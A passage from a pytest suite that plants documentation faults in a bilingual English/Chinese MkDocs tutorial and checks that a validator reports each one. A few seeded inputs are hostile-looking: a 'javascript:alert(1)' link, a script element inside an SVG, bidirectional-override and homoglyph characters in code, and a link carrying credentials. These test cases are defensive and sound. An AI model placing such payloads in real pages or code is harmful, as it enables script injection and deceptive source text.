        ("docs/library.toml", f"{EN} has no creating/start_returns under #without-join"),
    ),
    Fault("two examples swapped on one", swap(JOINED, RETURNS, EN), (ZH, "the example")),
    Fault(
        "an example in one language only",
        edit(RETURNS, "", ZH),
        (ZH, "lacks the example creating/start_returns", "put it here, or not there"),
    ),
    Fault(
        "an include of a snippet that is not there",
        edit('"creating/join.py"', '"creating/joined.py"', EN),
        (EN, "snippets/creating/joined.py: there is no such file"),
    ),
    Fault(
        "a marked line that the snippet no longer has",
        edit('mark="', 'mark="joined()|', EN),
        (EN, "snippets/creating/join.py: no line to mark holds 'joined()'"),
    ),
    Fault(
        "a snippet that no page shows",
        add("print(1)\n", "snippets/creating/seeded.py"),
        ("snippets/creating/seeded.py", "no page in docs/zh shows it"),
    ),
    # One skeleton.
    alone("a paragraph", "More.", "a paragraph"),
    alone("a link by reference", "[x][y]\n\n[y]: many.md", "a paragraph", "1 more after"),
    alone("a bare link", "<https://docs.python.org/3/>", "a paragraph"),
    alone("a link in HTML", '<p><a href="many.md">x</a></p>', "a paragraph"),
    alone("an underlined heading", "More { #more }\n----", "the heading #more of level 2"),
    alone("a heading in HTML", '<h2 id="more">More</h2>', "the heading #more of level 2"),
    alone("a numbered list", "1. x\n2. y", "a numbered list", "2 more after"),
    alone("an admonition", '!!! note "x"\n\n    x', "an admonition of the kind note"),
    alone("commands", "```console\n$ true\n```", "the commands '$ true'"),
    alone("a table", "| a |\n|---|\n| b |", "a table"),
    alone("a drawing", "![x](diagram:process)", "the drawing process"),
    Fault(
        "a sign after a heading, with another link",
        edit("{ #timeout }", '<a class="headerlink" href="many.md">x</a> { #timeout }', EN),
        (ZH, "lacks a link to many.md"),
    ),
    Fault("a table row", edit("| `0` |", "| `9` | x |\n| `0` |", EN), (ZH, "row of 2 cells")),
    Fault("a list item", edit("- Usually", "- x\n- Usually", EN), (ZH, "lacks a list item")),
    Fault("a list of numbers", edit("- Usually", "1. Usually", EN), (EN, "a numbered list")),
    Fault("an anchor", edit("  { #daemon }\n", "", EN), (EN, "lacks the anchor #daemon")),
    Fault("a heading's level", edit("## Wait, but", "### Wait, but", EN), (EN, "of level 3")),
    Fault(
        "a heading's id changed",
        edit("{ #timeout }", "{ #time-out }", EN),
        (EN, "has the heading #time-out", "has the heading #timeout", "make them the same"),
    ),
    Fault(
        "links swapped between two texts",
        swap("(unjoined.md#nobody-looks)", "(unjoined.md#lock-gone)", EN),
        (EN, "a link to unjoined.md#lock-gone", "make them the same"),
    ),
    Fault(
        "another drawing",
        edit("(diagram:fork-join", "(diagram:process", EN),
        (EN, "has the drawing process where", "has the drawing fork-join"),
    ),
    Fault(
        "a stale translation",
        edit("has to ask", "must ask", EN),
        (ZH, EN, "has changed since they were in step"),
        stamped=False,
    ),
    Fault(
        "a heading with another meaning",
        edit("## What changes without join", "## Why join is of no use", EN),
        (ZH, EN, "has changed since they were in step"),
        stamped=False,
    ),
    Fault(
        "a page missing in one language",
        {"docs/zh/creating/many.md": lambda _: None},
        ("docs/en/creating/many.md", "its translation docs/zh/creating/many.md is missing"),
    ),
    Fault(
        "notebooks whose code differs",
        {"docs/en/labs/cost.ipynb": drop_code_cell},
        ("docs/en/labs/cost.ipynb", "code cells are not those of docs/zh/labs/cost.ipynb"),
    ),
    Fault(
        "a figure changed in one language",
        edit("300 arrives as 44", "300 arrives as 45", EN),
        (EN, f"44 is said in {ZH}", "say the same in both"),
    ),
    Fault(
        "a description in one language",
        edit("twin:", "description: All about join.\ntwin:", EN),
        (ZH, "has no description above its text"),
    ),
    # Headings, links, words.
    Fault("no id", edit(" { #timeout }", "", *BOTH), (EN, "line", "needs an explicit id")),
    Fault(
        "one id twice",
        edit("#timeout }", "#exit-code }", *BOTH),
        (EN, "exit-code is there 2 times"),
    ),
    Fault("two titles", edit("## Wait, but", "# Wait, but", EN), (EN, "exactly one heading")),
    Fault("a level left out", edit("## Wait, but", "#### Wait, but", EN), (EN, "skips a level")),
    Fault(
        "a paragraph not translated",
        add("\n\nWho waits for nobody is done sooner, says he.\n", *BOTH),
        (ZH, "is not in Chinese", "translate it"),
    ),
    Fault(
        "one not translated into English",
        add("\n\n谁也不等。\n", *BOTH),
        (EN, "is in Chinese", "translate it"),
    ),
    Fault("a page of another kind", add("x", "docs/en/x.html"), ("docs/en/x.html: is no page",)),
    Fault(
        "a page by another ending",
        add("# X { #x }", "docs/zh/creating/x.markdown"),
        ("docs/zh/creating/x.markdown: is no page", "name it .md"),
    ),
    typed("a link to the other language", "[x](../../zh/creating/many.md)", "leaves docs/en"),
    typed("one in HTML", '<p><a href="../../zh/creating/many/">x</a></p>', "leaves docs/en"),
    typed("a link from the root", "[x](/en/creating/many/)", "starts at the root of a host"),
    typed("a link without a scheme", "[x](//docs.python.org/3/)", "is no address of the web"),
    typed("a link that runs", "[x](javascript:alert(1))", "is no address of the web"),
    typed("a link to this machine", "[x](https://localhost:8000/)", HOST),
    typed("a link to a number", "[x](https://192.168.0.1/)", HOST),
    typed("a link with a password", "[x](https://a:b@docs.docker.com/)", HOST),
    typed("a link to a name that is kept free", "[x](https://a.example.com/)", HOST),
    typed(
        "a link that tells where one comes from",
        "[x](https://peps.python.org/pep-0371/?utm_source=me)",
        "leave out utm_source=me",
    ),
    Fault(
        "a letter that looks like another",
        edit("A child", "A \u0441hild", EN),
        (EN, "'\u0441' is a CYRILLIC SMALL LETTER ES; write the letter that is meant"),
    ),
    Fault(
        "Chinese punctuation in English",
        edit("A child", "A child，", EN),
        (EN, "'，' is punctuation of Chinese; write that of English"),
    ),
    Fault(
        "traditional Chinese",
        add("\n\n等這一个。\n", ZH),
        (ZH, "'這' is a CJK UNIFIED IDEOGRAPH-9019; write the letter that is meant"),
    ),
    typed("a link that anybody may read", "[x](http://peps.python.org/)", "is no address of the"),
    Fault(
        "documentation in Chinese on an English page",
        edit("//docs.python.org/3/", "//docs.python.org/zh-cn/3/", EN),
        (EN, "is in another language", "link https://docs.python.org/3/library/"),
    ),
    Fault(
        "documentation in French",
        edit("//docs.python.org/3/", "//docs.python.org/fr/3/", EN),
        (EN, "is in another language", "link https://docs.python.org/3/library/"),
    ),
    Fault(
        "documentation in English on a Chinese page",
        edit("//docs.python.org/zh-cn/3/", "//docs.python.org/3/", ZH),
        (ZH, "is in another language", "link https://docs.python.org/zh-cn/3/library/"),
    ),
    Fault(
        "half-width punctuation after Chinese",
        edit("干活就返回，", "干活就返回,", ZH),
        (ZH, "full-width punctuation"),
    ),
    Fault(
        "no space between a link to code and Chinese",
        add("\n\n看 [`join`](many.md)再说。\n", ZH),
        (ZH, "a space between Chinese and Latin"),
    ),
    Fault(
        "a space beside a Chinese quotation mark",
        add("\n\n它说的是 “gone”，没有别的。\n", ZH),
        (ZH, "no space beside a quotation mark"),
    ),
    Fault(
        "a term under another name",
        edit("CPython 自己的示例", "CPython 自己的例子", ZH),
        (f"{ZH}: line", "says '例子'", "docs/glossary.toml, says '示例'"),
    ),
    Fault(
        "a term that lacks a sentence",
        edit('says.en = "Lets in one process at a time."\n', "", "docs/glossary.toml"),
        ("docs/glossary.toml: lock lacks 'en'",),
    ),
    Fault(
        "a term whose page is not there",
        edit("creating/first.md#first", "creating/fourth.md#first", "docs/glossary.toml"),
        ("docs/glossary.toml: child leads to docs/zh/creating/fourth.md, which is not there",),
    ),
    Fault(
        "a term whose heading is not there",
        edit("creating/first.md#first", "creating/first.md#key", "docs/glossary.toml"),
        ("docs/glossary.toml: child leads to #key, which docs/en/creating/first.md has not",),
    ),
    # Drawings.
    typed("a drawing without words", "![](diagram:fork-join)", "needs a text alternative"),
    typed("a drawing that is not there", "![x](diagram:gone)", "gone.svg is missing"),
    Fault(
        "a drawing on no page",
        add("<svg/>", "docs/assets/diagrams/seeded.svg"),
        ("docs/assets/diagrams/seeded.svg", "no page in docs/zh shows it", "remove it"),
    ),
    Fault(
        "a label too far right",
        edit('x="484" y="202"', 'x="680" y="202"', DRAWING),
        (DRAWING, "'exitcode 0' leaves the picture", "move it"),
    ),
    Fault(
        "a label too far left",
        edit('x="190" y="52"', 'x="20" y="52"', DRAWING),
        (DRAWING, "'start()' leaves the picture"),
    ),
    Fault(
        "a label below the picture",
        edit('x="484" y="202"', 'x="484" y="402"', DRAWING),
        (DRAWING, "leaves the picture"),
    ),
    Fault(
        "a long label",
        edit('en="child"', 'en="the child, which computes, computes again and then ends"', DRAWING),
        (DRAWING, "and then ends' leaves the picture"),
    ),
    Fault(
        "labels on each other",
        edit('x="300" y="52"', 'x="200" y="52"', DRAWING),
        (DRAWING, "'start()' and 'join()' lie on each other", "move one"),
    ),
    Fault(
        "a label in English alone",
        edit(' zh="等待" en="waiting"/>', ">waiting</text>", DRAWING),
        (DRAWING, "the label 'waiting' is in one language"),
    ),
    Fault(
        "a label without English",
        edit(' en="waiting"', "", DRAWING),
        (DRAWING, "a label lacks one language"),
    ),
    Fault(
        "a label that was not translated",
        edit('zh="等待"', 'zh="waiting"', DRAWING),
        (DRAWING, "'waiting' is the same in both languages"),
    ),
    Fault(
        "Chinese in code",
        edit(">start()<", ">启动()<", DRAWING),
        (DRAWING, "'启动()' is in one language"),
    ),
    Fault(
        "a colour in a drawing",
        edit('<g class="main">', '<g fill="red">', DRAWING),
        (DRAWING, "<g fill>, which no drawing has"),
    ),
    Fault(
        "a script in a drawing",
        edit("</svg>", "<script>1</script></svg>", DRAWING),
        (DRAWING, "<script>, which no drawing has"),
    ),
    Fault(
        "a picture in a drawing",
        edit("</svg>", '<image href="//a.example/x"/></svg>', DRAWING),
        (DRAWING, "<image>, which no drawing has"),
    ),
    Fault("a drawing that is none", edit("</svg>", "", DRAWING), (DRAWING, "is no drawing as")),
    # Settings.
    Fault(
        "a page in no navigation",
        edit("      - creating/many.md\n", "", "mkdocs.yml", "mkdocs.en.yml"),
        ("mkdocs.yml: nav has creating/many.md 0 times", "once"),
    ),
    Fault(
        "in one language's alone",
        edit("      - creating/many.md\n", "", "mkdocs.en.yml"),
        ("mkdocs.en.yml: nav has creating/many.md 0 times",),
    ),
    Fault(
        "a page there twice",
        edit("- creating/many.md", "- creating/many.md\n      - creating/many.md", "mkdocs.en.yml"),
        ("mkdocs.en.yml: nav has creating/many.md 2 times",),
    ),
    Fault(
        "in another order",
        swap("creating/join.md", "creating/many.md", "mkdocs.en.yml"),
        ("mkdocs.en.yml: nav has creating/many.md where mkdocs.yml has creating/join.md",),
    ),
    Fault(
        "under another heading",
        edit("  - Ending processes:\n", "", "mkdocs.en.yml"),
        ("mkdocs.en.yml", "under another heading"),
    ),
    Fault(
        "a page that is not there",
        edit("- creating/many.md", "- creating/many.md\n      - creating/gone.md", "mkdocs.en.yml"),
        ("mkdocs.en.yml", "creating/gone.md", "take it out"),
    ),
    Fault(
        "strict taken out",
        edit("strict: true\n", "", "mkdocs.yml"),
        ("mkdocs.yml: strict must be true", "put it back"),
    ),
    Fault("strict taken back", add("\nstrict: false\n", "mkdocs.en.yml"), ("strict must be true",)),
    Fault(
        "anchors not looked at",
        edit("anchors: warn", "anchors: info", "mkdocs.yml"),
        ("mkdocs.yml: validation must be",),
    ),
    Fault(
        "a hash taken out",
        {
            "requirements.lock": lambda text: text.replace(
                next(line for line in text.splitlines(True) if "--hash" in line), "", 1
            )
        },
        ("requirements.lock: is not what was locked", "make lock"),
    ),
    Fault(
        "a version changed by hand",
        edit("markdown==", "markdown==1", "requirements.lock"),
        ("requirements.lock: is not what was locked",),
    ),
    Fault(
        "a dependency that was not locked",
        edit('  "filelock",', '  "filelock",\n  "flask",', "pyproject.toml"),
        ("requirements.lock", "make lock"),
    ),
    Fault(
        "another Node",
        edit("==", "==1", "runtime/requirements.lock"),
        ("runtime/requirements.lock: is not what was locked",),
    ),
    # Programs, and what stands beside them.
    Fault(
        "a bad pattern", add('[varies]\npid = "("\n', TOML), (TOML, "varies.pid is not a pattern")
    ),
    Fault(
        "a pattern that matches nothing",
        add('[varies]\npid = "pid [0-9]+"\n', TOML),
        (TOML, "varies.pid matches nothing"),
    ),
    Fault(
        "one pattern by version, several texts",
        add('[by-version]\nwho = "^(\\\\w+):"\n', TOML),
        (TOML, "by-version.who", "a name of its own"),
    ),
    Fault(
        "a reason in one language only",
        add('[not-under.fork]\nen = "because"\n', TOML),
        (TOML, "both languages"),
    ),
    Fault(
        "why not in the browser, in one language",
        add('not-in-browser = {en = "x"}\n', TOML),
        (TOML, "not-in-browser needs its reason in both languages"),
    ),
    Fault(
        "a stale record",
        add("once\n", "snippets/creating/join.fork.out"),
        ("snippets/creating/join.fork.out", "stale"),
    ),
    Fault(
        "a record of standard error, undeclared",
        add("once\n", "snippets/creating/join.err"),
        ("snippets/creating/join.err: stale, as stderr is not declared",),
    ),
    Fault(
        "a record with a path of a machine",
        add("/home/me/join.py\n", "snippets/creating/join.out"),
        ("snippets/creating/join.out: holds /home/me/join.py, of one machine",),
    ),
    Fault(
        "a traceback that shows a line which the program does not have",
        edit("    child.start()\n", "    child.begin()\n", "snippets/errors/lock_in_object.err"),
        ("lock_in_object.err: shows line 17 as “child.begin()”", "record errors/lock_in_object"),
    ),
    Fault(
        "a record of no program",
        add("once\n", "snippets/creating/gone.out"),
        ("snippets/creating/gone.out", "belongs to no snippet"),
    ),
    Fault(
        "carriage returns",
        {"snippets/creating/join.py": lambda s: s.replace("\n", "\r\n")},
        ("snippets/creating/join.py: line 1 holds U+000D", "take it out"),
    ),
    Fault(
        "a text that turns",
        edit("child: working", "child: \u202eworking", "snippets/creating/join.py"),
        ("snippets/creating/join.py: line", "U+202E"),
    ),
    Fault(
        "a space of no width",
        edit("def ", "def \u200b", "snippets/creating/join.py"),
        ("snippets/creating/join.py", "U+200B"),
    ),
    Fault(
        "a mark at the beginning",
        {"snippets/creating/join.py": lambda s: "\ufeff" + s},
        ("snippets/creating/join.py: line 1 holds U+FEFF",),
    ),
    Fault(
        "a mask that covers every line, as if the version made them",
        add("[by-version]\nall = '" + r"\w[^\n]*" + "'\n", TOML),
        (TOML, "by-version.all matches different texts in join.out"),
    ),
    *[
        Fault(
            f"a mask that covers everything: {pattern}",
            add(f"[{table}]\nall = '{pattern}'\n", TOML),
            (TOML, "all masks whole lines; let it cover the value that varies"),
        )
        for table, pattern in (
            ("varies", ".*"),
            ("varies", "(?s).+"),
            ("varies", "^(.+)$"),
            ("by-machine", r"parent(?:.|\n)*"),
        )
    ],
    *[
        Fault(
            f"a time limit of {limit}",
            add(f"time-limit = {limit}\n", TOML),
            (TOML, f"time-limit = {limit} does not fit; give a number above 0, 60 at most"),
        )
        for limit in ("inf", "nan", "86400")
    ],
    Fault(
        "the same sentence as the reason in both languages",
        add('[not-under.fork]\nzh = "because"\nen = "because"\n', TOML),
        (TOML, "not-under.fork.zh is not in that language: 'because'; translate it"),
    ),
    Fault(
        "a Chinese reason for English readers",
        add('not-in-browser = {zh = "没有", en = "没有"}\n', TOML),
        (TOML, "not-in-browser.en is not in that language: '没有'; translate it"),
    ),
    Fault(
        "a program of many lines", add("print(1)\n" * 41, SEEDED), (SEEDED, "41 lines, 40 at most")
    ),
    Fault(
        "a comment in a program",
        add("print(1)  # prints one\n", SEEDED),
        (SEEDED, "'# prints one' would need translating"),
    ),
    Fault(
        "a text that says what a program does",
        add('print(1)\n"""It prints one."""\n', SEEDED),
        (SEEDED, "'It prints one.'", "say it on the pages"),
    ),
    Fault(
        "a package that nobody has",
        add(NEEDS_NOBODY, SEEDED),
        (SEEDED, "requires nobody-has-this, which requirements.lock has not; add it to the group"),
    ),
    Fault(
        "a package from elsewhere",
        add(NEEDS_NOBODY.replace("nobody-has-this", "numpy @ https://a.example/numpy.whl"), SEEDED),
        (SEEDED, "requires 'numpy @ https://a.example/numpy.whl'; name the package alone"),
    ),
    Fault(
        "a package of another version",
        add(NEEDS_NOBODY.replace("nobody-has-this", "numpy==1.0"), SEEDED),
        (SEEDED, "requires 'numpy==1.0'; name the package alone"),
    ),
    Fault(
        "a program called as a module of the library",
        add("print(1)\n", "snippets/creating/random.py"),
        ("snippets/creating/random.py: a reader who saves it imports it as random; rename it",),
    ),
    Fault(
        "a name with a letter that looks like another",
        add("\u0441hild = 1\nprint(\u0441hild)\n", SEEDED),
        (SEEDED, "'\u0441hild' is no name in ASCII; rename it"),
    ),
    Fault(
        "a program that holds nowhere",
        add('python = {from = "3.99", zh = "因为", en = "because"}\n', TOML),
        (TOML, "the program holds nowhere"),
    ),
    Fault(
        "a first Python for what is not declared",
        add('[since]\n"varies.nothing" = "3.14"\n', TOML),
        (TOML, "since says varies.nothing, which is not declared; remove it"),
    ),
    Fault(
        "stderr declared, and nothing there",
        add("stderr = true\n", TOML),
        (TOML, "stderr is declared, but nothing was recorded there; remove it"),
    ),
    Fault(
        "per-method declared, and one record",
        add("per-method = true\n", TOML),
        (TOML, "per-method is declared, but there is one record; remove it"),
    ),
    Fault("a turning text on a page", add("x\u2067y", EN), (EN, "U+2067")),
    Fault("carriage returns on a page", {EN: lambda s: s.replace("\n", "\r\n")}, (EN, "U+000D")),
]


@pytest.fixture(scope="module")
def copy(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("project")
    for pattern in NEEDED:
        for found in ROOT.glob(pattern):
            to = root / found.relative_to(ROOT)
            to.parent.mkdir(exist_ok=True)
            (shutil.copytree if found.is_dir() else shutil.copyfile)(found, to)
    return root


@contextmanager
def seeded(root: Path, seed: Seed, stamped: bool) -> Iterator[set[Path]]:
    """The files that were changed; after it all are as they were."""
    changed = {root / name for name in seed}
    pages = {Page(file, root) for file in changed if file.suffix in (".md", ".ipynb")}
    pages |= {page.twin for page in pages}
    kept = {f: f.read_bytes() if f.exists() else None for f in changed | {p.path for p in pages}}
    try:
        for name, change in seed.items():
            text = change((kept[root / name] or b"").decode())
            if text is None:
                (root / name).unlink()
            else:
                (root / name).write_bytes(text.encode())
        for page in pages if stamped else ():
            if all(file.exists() and b"\r" not in file.read_bytes() for file in kept):
                stamp(Page(page.path, root))
        yield {page.path for page in pages} | changed
    finally:
        for file, content in kept.items():
            if content is None:
                file.unlink(missing_ok=True)
            else:
                file.write_bytes(content)


def told(root: Path, changed: set[Path]) -> Iterator[str]:
    """What `proof check` says: of these files first, as that is quick."""
    for file in changed:
        if file.suffix in (".md", ".ipynb") and file.exists():
            yield from checks.of_page(Page(file, root))
        name = f"{file.parent.name}/{file.name.partition('.')[0]}"
        if (root / "snippets" / f"{name}.py").exists():
            yield from checks.of_snippet(get(name, root))
        if file.parent.name == "evidence":
            of = ("creating/join", "beside/handler_stays")
            yield from checks.of_evidence([get(name, root) for name in of], root)
    yield from checks.of_files(root)
    yield from checks.of_book(root)


@pytest.mark.parametrize("fault", FAULTS, ids=lambda fault: fault.what)
def test_a_seeded_fault_is_told(fault: Fault, copy: Path) -> None:
    found = []
    with seeded(copy, fault.seed, fault.stamped) as changed:
        for sentence in told(copy, changed):
            found.append(sentence)
            if all(words in sentence for words in fault.said):
                return
    pytest.fail("\n".join(found) or "nothing is told")


def test_without_a_fault_nothing_is_told(copy: Path) -> None:
    assert list(told(copy, {copy / name for name in (*BOTH, "snippets/creating/join.py")})) == []


def test_there_are_faults_enough() -> None:
    assert len(FAULTS) >= 100
    assert len({fault.what for fault in FAULTS}) == len(FAULTS)
